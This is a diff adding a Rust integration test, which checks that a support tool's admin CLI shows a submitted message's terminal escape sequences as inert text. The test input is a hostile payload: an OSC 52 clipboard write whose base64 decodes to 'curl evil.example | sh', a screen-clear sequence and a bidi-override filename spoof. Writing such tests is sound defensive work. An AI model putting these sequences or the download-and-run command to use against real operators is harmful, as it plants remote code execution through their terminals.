@@ -331,3 +331,45 @@ async fn the_canary_audit_finds_nothing_of_the_new_fields_in_a_dump_or_the_logs(
     );
     assert_eq!(canary::found(&log), Vec::<&str>::new(), "in the logs");
 }
+
+#[tokio::test]
+async fn a_message_with_terminal_escapes_reaches_the_operator_as_text_not_as_commands() {
+    let app = spawn_app().await;
+    // OSC 52 writes the terminal's clipboard; 8-bit CSI clears the screen; a bidi override.
+    let hostile = "Hello\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{9b}2J\u{202e}gnp.exe";
+    let res = post(
+        &app,
+        json!({"email": "sly@example.net", "subject": "Hi\u{1b}[2J", "message": hostile}),
+    )
+    .await;
+    assert_eq!(res.status(), 202);
+    let vars = app.cli_vars();
+    let list = admin(&vars, &["support", "list", "--json"]);
+    let reference: Value = serde_json::from_str(&stdout(&list)).unwrap();
+    let reference = reference[0]["reference"].as_str().unwrap().to_owned();
+    for args in [
+        vec!["support", "list"],
+        vec!["support", "show", &reference],
+        vec!["support", "show", &reference, "--json"],
+    ] {
+        let out = admin(&vars, &args);
+        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
+        let shown = stdout(&out);
+        assert!(
+            !shown
+                .chars()
+                .any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}'),
+            "{args:?} printed a control character: {shown:?}"
+        );
+        if args.len() > 2 {
+            assert!(
+                shown.contains("52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=="),
+                "{shown}"
+            );
+        }
+    }
+    // And the JSON still says exactly what was sent.
+    let out = admin(&vars, &["support", "show", &reference, "--json"]);
+    let shown: Value = serde_json::from_str(&stdout(&out)).unwrap();
+    assert_eq!(shown["message"], hostile);
+}
